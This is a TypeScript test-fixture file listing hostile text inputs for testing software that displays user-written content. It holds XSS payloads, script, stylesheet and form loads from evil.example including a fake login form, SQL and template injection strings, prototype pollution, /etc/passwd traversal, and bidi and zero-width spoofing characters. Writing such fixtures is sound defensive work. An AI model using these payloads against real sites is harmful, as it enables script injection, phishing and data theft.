// SPDX-License-Identifier: Apache-2.0
// Texts that mean harm, for tests of whatever shows what others wrote.

/** The member of the global object that a script of theirs would set. */
export const TRACE = 'aldisWasHere';
export const RUN = `window.${TRACE}=1`;

// Each text, and what of it a reader must see: the text itself where nothing is given.
const html = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r=9></svg>`,
  `"><script src="https://evil.example/x.js"></script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<a href="javascript:${RUN}">a link</a>`,
  `</textarea></script></style></title><img src=//evil.example/i.png>`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action=https://evil.example><input name=code><button>Log in</button></form>`,
  `<math><mtext></p><![CDATA[<b onmouseover=${RUN}>x</b>]]>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<object data="data:text/html;base64,PHNjcmlwdD4=">x</object>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<dialog open>Your session has ended</dialog>`,
  `&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &nbsp;`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:x file:///etc/passwd \\\\evil.example\\share`,
  `https://evil.example/?q=1 http://user:pass@evil.example//`,
];
const templates = [
  `{{constructor.constructor("${RUN}")()}}`,
  '${alert(1)} #{7*7} <%= 7*7 %> {%raw%} [[x]]',
  '{name} {n} {count} {time} {id} {who}',
  '[click](javascript:alert(1)) ![i](https://evil.example/i.png) **bold** `code` # head',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":true}}',
  "'; DROP TABLE meta; --",
  '=HYPERLINK("https://evil.example")',
  '%s%n%x %00 %0d%0aSet-Cookie:x=1',
  '../../../../etc/passwd',
  'null undefined NaN true [object Object]',
  '99999999999999999999999999999999999999 1e999 -0 0x7fffffff',
];
const unseen = [
  ['Account \u202egpj.exe\u202c end', 'U+202E'],
  ['\u2067right\u2069 \u2066left\u2069 \u2068first', 'U+2067'],
  ['\u202bEnglish in a right-to-left embedding', 'U+202B'],
  ['pay\u200bpal \ufeffzero\u2060width', 'U+200B'],
  ['soft\u00adhy\u00adphen', 'U+00AD'],
  ['tags \u{e0001}\u{e0041}\u{e0042}\u{e007f} alone', 'U+E0041'],
  ['line\u2028separator\u2029paragraph', 'U+2028'],
  ['bell\u0007 escape\u001b[31mred\u001b[0m back\u0008space', 'U+001B'],
  ['delete\u007f next line\u0085 c1\u009b31m', 'U+009B'],
  ['hangul\u3164filler \u115f\u1160 \uffa0', 'U+3164'],
  ['interlinear \ufff9base\ufffaover\ufffb', 'U+FFF9'],
  ['mark \u200e\u200f\u061c of direction', 'U+061C'],
  [`Zalgo ${'e\u0301\u0316\u0335'.repeat(60)}`, 'Zalgo'],
  [`h${'\u0300'.repeat(150)} one letter with many marks`, 'one letter with many marks'],
  ['\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f3f4}\u{e0067}\u{e0062}\u{e007f} family and flag', 'family and flag'],
  ['\u0645\u0631\u062d\u0628\u0627 abc \u05e9\u05dc\u05d5\u05dd 123', '\u0645\u0631\u062d\u0628\u0627'],
  ['\ufdfd\ufdfd\ufdfd \u{12031}\u{12031} wide signs', 'wide signs'],
];
export const TEXTS = [...html, ...templates].map((text) => [text, text]).concat(unseen);

/** What is too much of something. */
export const floods = [
  ['a word without end', 'W'.repeat(20_000)],
  ['256 KiB of another script', '\u4e16\u754c'.repeat(42_000)],
  ['as many lines as go in', 'x\n'.repeat(49_000)],
  ['a flood of marks', 'a\u0301\u0302\u0303'.repeat(24_000)],
  ['a flood of what is hidden', '\u202e\u200b'.repeat(20_000)],
  ['directions in directions', '\u2067a\u2066b'.repeat(10_000)],
  ['emoji', '\u{1f525}'.repeat(50_000)],
  ['tags in tags', '<b><i>'.repeat(16_000)],
];
